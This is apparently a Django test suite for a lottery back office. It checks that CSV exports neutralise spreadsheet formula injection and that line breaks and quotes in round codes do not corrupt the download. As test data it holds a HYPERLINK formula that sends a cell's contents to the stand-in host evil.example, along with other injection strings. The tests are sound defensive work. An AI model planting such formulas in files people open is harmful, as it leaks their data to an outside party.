"""CSV exports, opened in a spreadsheet by an operator: nothing an attacker typed
runs as a formula, and no code breaks the file or its download header."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.support import drawn_round, make_staff, make_tour, sign_in_staff
from tourdraw.lottery import rounds
from tourdraw.reports.exports import cell

HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_stays_text(start):
    assert cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert cell(-3) == -3
    assert cell(0.25) == 0.25
    assert cell("xiaomi-ev") == "xiaomi-ev"
    assert cell("1-2") == "1-2"


def _round_with_code(code: str):
    """A round whose code did not pass the back office's form (an import, the
    service called by another tool): the export must still hold."""
    tour = make_tour()
    now = timezone.now()
    return rounds.create_round(
        tour,
        code=code,
        title="t",
        title_en="t",
        slots=[],
        actor=None,
        opens_at=now + timedelta(days=1),
        closes_at=now + timedelta(days=2),
        draws_at=now + timedelta(days=2, hours=1),
    )


def test_a_formula_round_code_is_exported_as_text(client, db, platform_admin):
    _round_with_code(HOSTILE_CODE)
    sign_in_staff(client, platform_admin)
    response = client.get(reverse("backoffice:dashboards") + "?table=rounds&format=csv")
    codes = [row[0] for row in _rows(response)[1:]]
    assert "'" + HOSTILE_CODE in codes
    assert HOSTILE_CODE not in codes


def test_a_round_code_with_a_line_break_exports(client, db, platform_admin):
    round = _round_with_code('spring\r\nround"; x=1')
    sign_in_staff(client, platform_admin)
    detail = client.get(reverse("backoffice:round", args=[round.pk]) + "?format=csv")
    assert detail.status_code == 200
    assert detail["Content-Disposition"] == 'attachment; filename="spring__round___x_1-demand.csv"'
    table = client.get(reverse("backoffice:dashboards") + "?table=rounds&format=csv")
    assert [r[0] for r in _rows(table)[1:] if "spring" in r[0]] == ['spring\r\nround"; x=1']


def test_the_audit_export_keeps_a_hostile_username_as_text(client, db):
    _, slot, _ = drawn_round(4, [2], [])
    # Django accepts these characters in a username: "-2+3" would be computed.
    operator = make_staff("-2+3", "site_operator", slot.tour.site)
    sign_in_staff(client, operator)
    client.post(
        reverse("backoffice:slot_cancel", args=[slot.pk]), {"reason": "@SUM(1+1)", "confirm": "yes"}
    )
    rows = _rows(client.get(reverse("backoffice:audit") + "?format=csv"))
    actors = {row[2] for row in rows[1:]}
    assert "'-2+3" in actors and "-2+3" not in actors


def test_the_back_office_refuses_a_round_code_that_is_not_a_slug(client, db, platform_admin):
    tour = make_tour()
    sign_in_staff(client, platform_admin)
    now = timezone.now()
    response = client.post(
        reverse("backoffice:round_create"),
        {
            "tour": tour.pk,
            "code": "a\nb",
            "title": "t",
            "opens_at": (now + timedelta(days=1)).isoformat(),
            "closes_at": (now + timedelta(days=2)).isoformat(),
            "draws_at": (now + timedelta(days=3)).isoformat(),
        },
        follow=True,
    )
    assert "A round code has at most 80 letters" in response.content.decode()
    assert not tour.rounds.exists()
